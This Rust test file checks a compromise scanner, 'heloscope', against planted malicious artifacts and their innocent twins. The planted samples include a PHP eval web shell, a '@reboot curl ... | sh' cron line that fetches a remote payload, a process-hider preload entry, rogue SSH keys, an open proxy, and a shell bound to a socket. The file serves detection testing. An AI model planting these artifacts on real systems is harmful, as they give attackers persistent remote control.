//! `heloscope scan` over a root that holds planted things beside their innocent twins, files and living processes both.
//! Every planted one must be found with its grade, none of the twins above a note.

use crate::{heloscope, stderr};
use serde_json::Value;
use std::fs;
use std::io::{BufRead, BufReader};
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

/// A root in a folder, and the processes that live in it.
struct Root {
    folder: tempfile::TempDir,
    living: Vec<Child>,
}

impl Drop for Root {
    fn drop(&mut self) {
        for child in &mut self.living {
            drop(child.kill());
            drop(child.wait());
        }
    }
}

impl Root {
    fn new() -> Self {
        let root = Self { folder: tempfile::tempdir().unwrap(), living: Vec::new() };
        // Other users' processes must be able to start from it.
        fs::set_permissions(root.folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
        root.write(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n\
             postfix:x:107:115::/var/spool/postfix:/usr/sbin/nologin\nanna:x:1000:1000::/home/anna:/bin/bash\n",
        );
        root
    }

    fn path(&self, below: &str) -> PathBuf {
        self.folder.path().join(below)
    }

    fn write(&self, below: &str, text: impl AsRef<[u8]>) {
        let path = self.path(below);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn program(&self, below: &str, of: &str) {
        self.write(below, fs::read(of).unwrap());
        fs::set_permissions(self.path(below), fs::Permissions::from_mode(0o755)).unwrap();
    }

    /// Lists files as a package's, with the checksums they have now.
    fn package(&self, name: &str, files: &[&str]) {
        let mut list = String::new();
        let mut sums = String::new();
        for file in files {
            list.push_str(&format!("/{file}\n"));
            let output = Command::new("md5sum").arg(self.path(file)).output().unwrap();
            let text = String::from_utf8(output.stdout).unwrap();
            sums.push_str(&format!("{}  {file}\n", text.split(' ').next().unwrap()));
        }
        self.write(&format!("var/lib/dpkg/info/{name}.list"), list);
        self.write(&format!("var/lib/dpkg/info/{name}.md5sums"), sums);
    }

    fn start(&mut self, command: &mut Command) -> u32 {
        let child = command.spawn().unwrap();
        let pid = child.id();
        self.living.push(child);
        pid
    }

    fn scan(&self, more: &[&str]) -> Value {
        let root = self.folder.path().to_str().unwrap();
        let args = ["scan", "--json", "--root", root, "--proc", "/proc"];
        let output = heloscope(args.iter().chain(more));
        assert!(matches!(output.status.code(), Some(0 | 1)), "{}", stderr(&output));
        serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", stderr(&output)))
    }
}

/// The grades of the findings of an id about a path, or of a process.
fn grades(report: &Value, id: &str, about: &str) -> Vec<String> {
    let findings = report["findings"].as_array().unwrap();
    let about = |f: &&Value| {
        f["id"] == id
            && (f["path"].as_str().is_some_and(|p| p.contains(about))
                || f["pid"].as_u64().is_some_and(|pid| about.parse() == Ok(pid)))
    };
    findings.iter().filter(about).map(|f| f["grade"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn planted_files_are_found_and_their_twins_are_not() {
    let root = Root::new();
    let shell = "<?php if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }\n";
    let plain = "<?php\n$name = strtoupper('x');\necho $name . phpversion() . PHP_EOL;\nfile_put_contents('count.txt', time());\n";
    // Sites, as Apache is told of them.
    root.write(
        "etc/apache2/mods-enabled/php8.2.load",
        "LoadModule php_module /usr/lib/apache2/modules/libphp8.2.so\n",
    );
    root.write(
        "etc/apache2/sites-enabled/shop.conf",
        "<VirtualHost *:80>\nDocumentRoot /var/www/shop\n</VirtualHost>\n<VirtualHost *:80>\nDocumentRoot /srv/safe\n\
         <Directory /srv/safe/wp-content/uploads>\nphp_admin_flag engine off\n</Directory>\n</VirtualHost>\n",
    );
    root.write("var/www/shop/wp-content/uploads/2024/img.php", shell);
    root.write("var/www/shop/wp-content/uploads/2024/count.php", plain);
    root.write("srv/safe/wp-content/uploads/2024/count.php", plain);
    root.write("var/www/shop/wp-includes/version.php", "<?php\n$wp_version = '6.1.1';\n");
    root.write(
        "var/www/shop/vendor/phpmailer/phpmailer/src/PHPMailer.php",
        "<?php\nnamespace PHPMailer;\nclass PHPMailer\n{\n    public function mailSend($to, $subject, $body)\n    {\n        return mail($to, $subject, $body);\n    }\n}\n",
    );
    root.write(
        "var/www/shop/vendor/autoload.php",
        "<?php\nrequire_once __DIR__ . '/composer/autoload_real.php';\n",
    );
    symlink("../../../../../../../../etc", root.path("var/www/shop/out")).unwrap();
    symlink(".", root.path("var/www/shop/loop")).unwrap();
    nix::unistd::mkfifo(&root.path("var/www/shop/fifo.php"), nix::sys::stat::Mode::S_IRWXU)
        .unwrap();
    fs::File::create(root.path("var/www/shop/sparse.php")).unwrap().set_len(1 << 40).unwrap();
    let odd = root.path("var/www/shop").join(std::ffi::OsStr::from_bytes(b"new\nline\xff.php"));
    fs::write(odd, shell).unwrap();
    // Temporary folders.
    root.program("dev/shm/.a", "/bin/sleep");
    root.write("tmp/.x/bot.pl", "#!/usr/bin/perl\nuse IO::Socket::INET;\nopen(M, '|/usr/sbin/sendmail -t'); print M \"To: x\\n\";\n");
    fs::set_permissions(root.path("tmp/.x/bot.pl"), fs::Permissions::from_mode(0o755)).unwrap();
    root.write("tmp/sess_0123456789abcdef", "user|s:4:\"anna\";");
    for folder in [
        "tmp/.X11-unix",
        "tmp/.ICE-unix",
        "tmp/systemd-private-0a1b-apache2.service-x/tmp",
        "var/tmp/.font-unix",
    ] {
        fs::create_dir_all(root.path(folder)).unwrap();
    }
    // What starts by itself.
    root.write(
        "var/spool/cron/crontabs/www-data",
        "MAILTO=\"\"\n*/15 * * * * perl /var/tmp/.x/a.pl >/dev/null 2>&1\n",
    );
    root.write(
        "var/spool/cron/crontabs/anna",
        "0 5 * * * /home/anna/.local/bin/backup >/tmp/backup.log 2>&1\n",
    );
    root.write(
        "etc/cron.d/php",
        "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
    );
    root.write("etc/cron.d/update", "@reboot root curl -s http://203.0.113.9/u | sh\n");
    root.write("etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n");
    root.write("etc/systemd/system/netd.service", "[Service]\nExecStart=-/var/tmp/.n/netd -c x\n");
    root.write("lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n");
    root.write("etc/rc.local", "#!/bin/sh\nnohup /dev/shm/.a/run &\nexit 0\n");
    root.write("home/anna/.bashrc", "export PATH=\"$HOME/.local/bin:$PATH\"\nalias ll='ls -l'\n");
    root.write("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n");
    root.write("var/www/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz x\n");
    root.write("home/anna/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz anna\ncommand=\"/usr/bin/rrsync /backup\",no-pty ssh-rsa AAAAB3 backup\n");
    // Services.
    root.write("etc/tinyproxy/tinyproxy.conf", "Port 8888\nAllow 0.0.0.0/0\n");
    root.write(
        "etc/squid/squid.conf",
        "http_port 3128\nhttp_access allow localhost\nhttp_access deny all\n",
    );
    root.write(
        "etc/postfix/main.cf",
        "myhostname = mail.example.org\nmynetworks = 127.0.0.0/8, 172.17.0.0/16\n",
    );
    root.write("etc/docker/daemon.json", "{}");
    // Programs and their packages.
    root.program("usr/sbin/sendmail", "/bin/sleep");
    root.program("usr/sbin/sshd", "/bin/sleep");
    root.package("ssh", &["usr/sbin/sendmail", "usr/sbin/sshd"]);
    root.write("usr/sbin/sendmail", "#!/bin/sh\n");
    fs::set_permissions(root.path("usr/sbin/sendmail"), fs::Permissions::from_mode(0o755)).unwrap();

    let report = root.scan(&["--packages"]);
    let planted = [
        ("code-in-uploads-runs", "/2024/img.php", "bad"),
        ("code-in-uploads-runs", "/shop/wp-content/uploads/2024/count.php", "bad"),
        ("planted-code", "new\nline\u{ff}.php", "bad"),
        ("hidden-in-temporary-folder", "/dev/shm/.a", "bad"),
        ("hidden-in-temporary-folder", "/tmp/.x/bot.pl", "bad"),
        ("cron-job", "crontabs/www-data", "bad"),
        ("cron-job", "cron.d/update", "bad"),
        ("unit", "netd.service", "bad"),
        ("start-file", "rc.local", "bad"),
        ("ld-so-preload", "ld.so.preload", "bad"),
        ("authorized-key", "/var/www/.ssh", "suspect"),
        ("open-proxy", "tinyproxy.conf", "bad"),
        ("trusted-gateway", "main.cf", "suspect"),
        ("changed-package-file", "/usr/sbin/sendmail", "bad"),
        ("site-software", "/var/www", "note"),
    ];
    for (id, about, grade) in planted {
        assert_eq!(grades(&report, id, about), [grade], "{id} {about}\n{:#}", report["findings"]);
    }
    let known: Vec<&str> = planted.iter().map(|(_, about, _)| *about).collect();
    for finding in report["findings"].as_array().unwrap() {
        let path = finding["path"].as_str().unwrap_or_default();
        let innocent = finding["grade"] != "note" && !known.iter().any(|k| path.contains(k));
        assert!(!innocent, "{finding:#}");
    }
    let line = |id: &str| {
        report["findings"].as_array().unwrap().iter().find(|f| f["id"] == id).unwrap()["line"]
            .clone()
    };
    assert_eq!(line("trusted-gateway"), 2);
    assert_eq!(line("open-proxy"), 2);
    let lossy = report["findings"].as_array().unwrap().iter().find(|f| f["lossy"] == true).unwrap();
    assert!(lossy["path"].as_str().unwrap().ends_with("new\nline\u{ff}.php"));
}

/// Root is needed to be somebody else.
fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

#[test]
fn living_processes_are_judged_by_what_they_are() {
    let mut root = Root::new();
    if !Path::new("/usr/bin/perl").exists() {
        println!("skipped: needs perl");
        return;
    }
    for (below, of) in [
        ("usr/bin/perl", "/usr/bin/perl"),
        ("usr/bin/sleep", "/bin/sleep"),
        ("usr/bin/tool", "/bin/sleep"),
        ("usr/sbin/sshd", "/bin/sleep"),
        ("usr/bin/dash", "/bin/dash"),
        ("usr/lib/chromium/chromium", "/bin/sleep"),
        ("usr/lib/postfix/sbin/smtp", "/bin/sleep"),
    ] {
        root.program(below, of);
    }
    root.package(
        "all",
        &[
            "usr/bin/perl",
            "usr/bin/sleep",
            "usr/bin/tool",
            "usr/sbin/sshd",
            "usr/bin/dash",
            "usr/lib/chromium/chromium",
            "usr/lib/postfix/sbin/smtp",
        ],
    );
    let at = |below: &str| root.folder.path().join(below);
    let paths: Vec<PathBuf> =
        ["usr/bin/perl", "tmp/.x", "usr/bin/dash", "opt/agent", "tmp/upd", "usr/bin/tool"]
            .iter()
            .map(|p| at(p))
            .collect();
    let [perl, hidden, dash, agent, upd, tool] = paths.as_slice() else { panic!() };
    let long = |path: &Path| {
        let mut command = Command::new(path);
        command.arg("1000").stdin(Stdio::null()).stdout(Stdio::null());
        command
    };
    // A script from a hidden folder that calls itself Apache.
    root.write(
        "tmp/.x/bot.pl",
        "$0 = '/usr/sbin/apache2 -k start'; $| = 1; print \"ready\\n\"; sleep 1000;\n",
    );
    let bot = root.start(
        Command::new(perl)
            .arg("bot.pl")
            .current_dir(hidden)
            .stdin(Stdio::null())
            .stdout(Stdio::piped()),
    );
    let mut line = String::new();
    BufReader::new(root.living[0].stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    // Executables that are gone: of nobody, in /tmp, and of a package that was upgraded.
    root.program("opt/agent", "/bin/sleep");
    let agent_pid = root.start(&mut long(agent));
    fs::remove_file(agent).unwrap();
    root.program("tmp/upd", "/bin/sleep");
    let upd_pid = root.start(&mut long(upd));
    fs::remove_file(upd).unwrap();
    let upgraded = root.start(&mut long(tool));
    fs::remove_file(tool).unwrap();
    root.program("usr/bin/tool", "/bin/sleep");
    let sleep = root.path("usr/bin/sleep");
    let kworker = root.start(long(&sleep).arg0("[kworker/0:1]"));
    let sshd_path = root.path("usr/sbin/sshd");
    let sshd = root.start(long(&sshd_path).arg0("sshd: anna@pts/0"));
    let chromium_path = root.path("usr/lib/chromium/chromium");
    let chromium = root.start(long(&chromium_path).arg0("/proc/self/exe --type=zygote"));
    // A shell that somebody far away types into.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let near = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (_far, _) = listener.accept().unwrap();
    let both = OwnedFd::from(near);
    let shell = root.start(Command::new(dash).stdin(both.try_clone().unwrap()).stdout(both));
    let (mut foreign, mut smtp) = (None, None);
    if is_root() {
        root.program("usr/lib/extra/relay", "/bin/sleep");
        let (relay, of_postfix) =
            (root.path("usr/lib/extra/relay"), root.path("usr/lib/postfix/sbin/smtp"));
        foreign = Some(root.start(long(&relay).uid(107)));
        smtp = Some(root.start(long(&of_postfix).arg0("smtp").uid(107)));
    } else {
        println!("skipped: needs root for processes of another user");
    }

    let report = root.scan(&[]);
    let of = |pid: u32, id: &str| grades(&report, id, &pid.to_string());
    assert_eq!(of(bot, "script-in-odd-place"), ["bad"], "{:#}", report["findings"]);
    assert_eq!(of(bot, "false-name"), ["bad"]);
    assert_eq!(of(agent_pid, "exe-deleted"), ["suspect"]);
    assert_eq!(of(upd_pid, "exe-in-temporary-folder"), ["bad"]);
    assert_eq!(of(upgraded, "exe-replaced"), ["note"]);
    assert_eq!(of(kworker, "kernel-thread-name"), ["bad"]);
    assert_eq!(of(shell, "shell-on-socket"), ["bad"]);
    if let Some(pid) = foreign {
        assert_eq!(of(pid, "foreign-under-mta"), ["bad"]);
    }
    let innocent: Vec<u32> =
        [Some(upgraded), Some(sshd), Some(chromium), smtp].into_iter().flatten().collect();
    for finding in report["findings"].as_array().unwrap() {
        let pid = finding["pid"].as_u64().unwrap_or_default() as u32;
        assert!(!innocent.contains(&pid) || finding["grade"] == "note", "{finding:#}");
    }
    let processes = report["processes"].as_array().unwrap();
    assert_eq!(processes.len(), root.living.len(), "only those of this root");

    // And `investigate` takes it for what it is.
    let kept = root.path("scan.json");
    fs::write(
        &kept,
        heloscope([
            "scan",
            "--json",
            "--proc",
            "/proc",
            "--root",
            root.folder.path().to_str().unwrap(),
        ])
        .stdout,
    )
    .unwrap();
    let answer = crate::investigate(&[&kept]);
    assert_eq!(answer["inputs"][0]["kind"], "processes", "{:#}", answer["inputs"]);
    assert!(answer["inputs"][0]["records"].as_u64().unwrap() > 10);
}

#[test]
fn a_baseline_tells_what_changed() {
    let root = Root::new();
    root.write("etc/cron.d/old", "0 5 * * * root /usr/local/bin/old\n");
    root.write("var/www/site/index.php", "<?php echo date('Y');\n");
    root.write("var/www/site/other.php", "<?php echo date('m');\n");
    let kept = root.path("baseline.json");
    let with = ["--baseline", kept.to_str().unwrap()];
    assert!(root.scan(&with)["changes"].is_null());
    assert_eq!(fs::metadata(&kept).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(root.scan(&with)["changes"]["parts"], serde_json::json!({}), "nothing has changed");
    fs::remove_file(root.path("etc/cron.d/old")).unwrap();
    root.write("etc/cron.d/new", "* * * * * root /tmp/.x/run\n");
    root.write("root/.ssh/authorized_keys", "ssh-ed25519 AAAA stranger\n");
    root.write("var/www/site/index.php", "<?php echo date('Y-m');\n");
    let changes = root.scan(&with)["changes"]["parts"].clone();
    assert!(
        changes["cron"]["new"][0].as_str().unwrap().starts_with("/etc/cron.d/new"),
        "{changes:#}"
    );
    assert!(changes["cron"]["gone"][0].as_str().unwrap().starts_with("/etc/cron.d/old"));
    assert_eq!(changes["keys"]["new"][0], "root ssh-ed25519 AAAA stranger");
    assert_eq!(changes["code"]["changed"], serde_json::json!(["/var/www/site/index.php"]));
    assert!(changes["findings"]["new"][0].as_str().unwrap().starts_with("cron-job bad"));
    fs::write(&kept, "{}").unwrap();
    let output =
        heloscope(["scan", "--root", root.folder.path().to_str().unwrap(), "--baseline", with[1]]);
    assert_eq!(output.status.code(), Some(65), "{}", stderr(&output));
}

#[test]
fn clamd_is_asked_over_its_socket() {
    use std::io::{Read, Write};
    let root = Root::new();
    root.write("var/www/site/a.txt", "harmless");
    root.write("var/www/site/b.txt", "a line that the signature knows");
    let socket = root.path("clamd");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut text = Vec::new();
            let mut byte = [0; 1];
            // Up to the empty block that ends a stream; a connection without a word only tries the door.
            while stream.read(&mut byte).unwrap_or(0) == 1 {
                text.push(byte[0]);
                if text.len() > 14 && text.ends_with(&[0, 0, 0, 0]) {
                    let known = memchr_of(&text, b"signature knows");
                    let answer: &[u8] =
                        if known { b"stream: Test.Known FOUND\0" } else { b"stream: OK\0" };
                    stream.write_all(answer).unwrap();
                    break;
                }
            }
        }
    });
    let report = root.scan(&["--with", "clamd", "--clamd", socket.to_str().unwrap()]);
    assert_eq!(grades(&report, "clamd", "/var/www/site/b.txt"), ["bad"]);
    assert!(grades(&report, "clamd", "/var/www/site/a.txt").is_empty());
    // One that is away is said, and ends nothing.
    let report = root.scan(&["--with", "clamd", "--clamd", "/nonexistent/socket"]);
    assert!(report["unseen"].as_array().unwrap().iter().any(|u| u["what"] == "clamd"));
}

fn memchr_of(text: &[u8], needle: &[u8]) -> bool {
    text.windows(needle.len()).any(|w| w == needle)
}
